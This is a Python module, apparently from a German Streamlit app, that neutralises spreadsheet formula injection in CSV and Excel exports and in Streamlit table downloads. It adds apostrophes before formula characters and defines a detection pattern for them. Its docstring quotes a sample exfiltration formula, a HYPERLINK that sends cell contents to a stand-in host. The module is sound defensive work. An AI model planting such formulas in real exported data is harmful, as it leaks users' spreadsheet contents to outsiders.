"""Spreadsheet-safe text for every download: CSV and Excel files, and Streamlit's table toolbar.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://x/?leak="&A2)`` sends other cells to a stranger when clicked). They also
do so after leading blanks that an import trims, after a tab or carriage return, and for the
full-width and small forms (``＝ ＋ － ＠``, what a Japanese or Chinese keyboard types). OWASP's
remedy is an apostrophe in front, which every spreadsheet reads as "this is text".

A CSV cell does not only start where we put a separator: a reader that splits at ``,`` while
we wrote ``;`` (English Excel, LibreOffice's default) starts a new cell after every comma in
our text, and a line break inside a quoted cell starts a new row for a reader that lost track
of the quotes. So the apostrophe also goes after every ``,``, ``;``, tab, CR and LF inside a
text when a formula character follows (after blanks or quotes). That is the rule "by content,
not by separator": the file is safe whichever separator the reader picks. It changes only texts
that contain such a sequence (``Kosten, -5 %`` becomes ``Kosten, '-5 %``);
:func:`restore_text` undoes it exactly, so our own template re-imports unchanged.

Numbers stay numbers (a negative score difference is a value, not a formula) and are written
unquoted; every text cell is quoted. Excel files store each text as a text cell as well.
:func:`safe_frame` / :func:`display_safe` give the same protection to a table shown with
``st.dataframe``, whose toolbar offers its own "download as CSV".
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import numbers
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any, TypeVar

import numpy as np
import pandas as pd

from mintqo.formats import local_date, local_time, yes_no

# ASCII formula starters and every character that NFKC turns into one of them (full-width,
# small and super-/subscript forms); tests/test_formula_neutralising.py derives the same list.
FORMULA_CHARACTERS = (
    "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207a\u207c\u208a\u208c\ufb29"
)
CELL_SEPARATORS = ",;\t\r\n"
"""Characters after which some reader starts a new cell or row."""

# the text's start, or right after a separator or line break
_BOUNDARY = rf"(?:^|(?<=[{re.escape(CELL_SEPARATORS)}]))"
_FORMULA_AHEAD = (  # a tab or CR, or blanks and quotes followed by a formula character
    r"(?=[\t\r]|(?:[^\S\t\r\n]|\")*[" + re.escape(FORMULA_CHARACTERS) + r"])"
)
_NEEDS_APOSTROPHE = re.compile(_BOUNDARY + _FORMULA_AHEAD)
_ADDED_APOSTROPHE = re.compile(_BOUNDARY + "'" + _FORMULA_AHEAD)

FrameT = TypeVar("FrameT")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` with an apostrophe wherever a spreadsheet could start a formula; non-text as is."""
    if not isinstance(value, str):
        return value
    return _NEEDS_APOSTROPHE.sub("'", value)


def restore_text(text: str) -> str:
    """Undo :func:`spreadsheet_safe` (for re-imported files): drop the apostrophes it adds.

    An apostrophe the user typed at such a place is dropped as well; that is the price of a
    template that round-trips unchanged.
    """
    return _ADDED_APOSTROPHE.sub("", text)


def _safe_column(series: pd.Series) -> pd.Series:
    if isinstance(series.dtype, pd.CategoricalDtype):
        series = series.astype(object)
    if series.dtype == object or pd.api.types.is_string_dtype(series):
        return series.map(spreadsheet_safe)
    return series


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and text index are spreadsheet-safe.

    Numeric columns keep their dtype (negative numbers stay numbers); the input is unchanged.
    """
    safe = frame.copy()
    for position in range(safe.shape[1]):
        safe.isetitem(position, _safe_column(safe.iloc[:, position]))
    safe.columns = [spreadsheet_safe(str(c)) for c in safe.columns]
    if safe.index.dtype == object or pd.api.types.is_string_dtype(safe.index):
        safe.index = safe.index.map(spreadsheet_safe)
    return safe


def display_safe(data: FrameT) -> FrameT:
    """``data`` (DataFrame, Series or pyarrow Table) as :func:`safe_frame` would make it.

    For what ``st.dataframe`` shows: its toolbar downloads exactly the shown cells as CSV.
    """
    if isinstance(data, pd.DataFrame):
        return safe_frame(data)
    if isinstance(data, pd.Series):
        safe = _safe_column(data.copy())
        safe.name = spreadsheet_safe(data.name)
        return safe
    import pyarrow as pa

    if isinstance(data, pa.Table):
        return _safe_arrow(data)
    raise TypeError(f"display_safe: unsupported table type {type(data).__name__}")


def _safe_arrow(table: Any) -> Any:
    import pyarrow as pa

    columns = []
    for column, field in zip(table.columns, table.schema, strict=True):
        kind = field.type
        if pa.types.is_dictionary(kind):
            column, kind = column.cast(kind.value_type), kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            values = column.to_pylist()
            safe = [spreadsheet_safe(v) for v in values]
            if safe != values:
                column = pa.chunked_array([pa.array(safe, type=kind)], type=kind)
        columns.append(column)
    names = [spreadsheet_safe(name) for name in table.column_names]
    return pa.Table.from_arrays(columns, names=names)


# --- CSV ------------------------------------------------------------------------------------


class _Number:
    """A number already formatted (German decimal comma); the csv writer leaves it unquoted."""

    __slots__ = ("text",)

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text

    def __float__(self) -> float:  # makes csv.QUOTE_NONNUMERIC treat it as a number
        return float(self.text.replace(",", "."))


def _is_missing(value: Any) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float) and math.isnan(value)


def csv_cell(value: Any, decimal: str = ",") -> Any:
    """What the csv writer gets for one cell: numbers as unquoted numbers, text safe and quoted."""
    if _is_missing(value):
        return None
    if isinstance(value, bool | np.bool_):
        return yes_no(bool(value))  # German, as on screen: never "True"/"False"
    if isinstance(value, numbers.Integral):
        return _Number(str(int(value)))
    if isinstance(value, numbers.Real | Decimal):
        number = float(value)
        if math.isinf(number):
            return str(number)
        return _Number(repr(number).replace(".", decimal))
    if isinstance(value, dt.datetime):  # pd.Timestamp included; stored times are naive UTC
        return local_time(value)
    if isinstance(value, dt.date):
        return local_date(value)
    if isinstance(value, dt.time):
        return value.strftime("%H:%M")
    return spreadsheet_safe(value if isinstance(value, str) else str(value))


def csv_rows_bytes(rows: Iterable[Sequence[Any]], sep: str = ";", decimal: str = ",") -> bytes:
    """Rows as CSV for German Excel: UTF-8 with BOM, every text quoted and formula-safe.

    CRLF line ends, and quoting, keep a bare CR or LF inside a cell from starting a new row.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([csv_cell(value, decimal) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def csv_bytes(frame: pd.DataFrame, sep: str = ";") -> bytes:
    """A DataFrame as CSV (header row first), see :func:`csv_rows_bytes`."""
    header = [str(c) for c in frame.columns]
    return csv_rows_bytes([header, *frame.itertuples(index=False, name=None)], sep=sep)


# --- Excel ----------------------------------------------------------------------------------


def mark_text_cells(worksheet: Any) -> None:
    """Store every text cell of an openpyxl worksheet as text, never as a formula."""
    for row in worksheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = spreadsheet_safe(cell.value)
                cell.data_type = "s"


HEADER_FILL = "2B2D6E"  # the app's navy; white bold text on it: 12.3:1
MAX_COLUMN_WIDTH = 60
DECIMAL_FORMAT = "0.0"  # Excel shows it with the reader's decimal separator (German: 76,9)


def excel_bytes(sheets: dict[str, pd.DataFrame]) -> bytes:
    """An .xlsx workbook with one sheet per entry (sheet names cut to Excel's 31 characters).

    Every sheet is ready to read when opened: a styled header row that stays in view, a filter,
    columns as wide as their content (long texts wrap), whole numbers as whole numbers and
    decimals with one place (:data:`mintqo.formats.EXPORT_DECIMALS`).
    """
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            safe_frame(frame).to_excel(writer, sheet_name=name[:31], index=False)
            sheet = writer.sheets[name[:31]]
            mark_text_cells(sheet)
            style_sheet(sheet, frame)
    return buffer.getvalue()


def style_sheet(worksheet: Any, frame: pd.DataFrame) -> None:
    """Header style, frozen header, filter, column widths and number formats of a sheet
    written from ``frame`` (header in row 1, no index)."""
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    header_font = Font(bold=True, color="FFFFFF")
    header_fill = PatternFill("solid", fgColor=HEADER_FILL)
    for cell in worksheet[1]:
        cell.font = header_font
        cell.fill = header_fill
        cell.alignment = Alignment(vertical="center", wrap_text=True)
    worksheet.freeze_panes = "A2"
    if frame.shape[1] and len(frame):
        worksheet.auto_filter.ref = worksheet.dimensions
    for position, column in enumerate(frame.columns, start=1):
        letter = get_column_letter(position)
        values = frame[column]
        longest = max([len(str(column)), *(len(str(v)) for v in values.dropna().head(500))])
        width = min(MAX_COLUMN_WIDTH, longest + 2)
        worksheet.column_dimensions[letter].width = max(8, width)
        wrap = longest + 2 > MAX_COLUMN_WIDTH
        number_format = None
        if pd.api.types.is_integer_dtype(values.dtype):
            number_format = "0"
        elif pd.api.types.is_float_dtype(values.dtype):
            number_format = DECIMAL_FORMAT
        for row in range(2, len(frame) + 2):
            cell = worksheet.cell(row=row, column=position)
            if number_format and isinstance(cell.value, int | float):
                cell.number_format = number_format
            if wrap:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
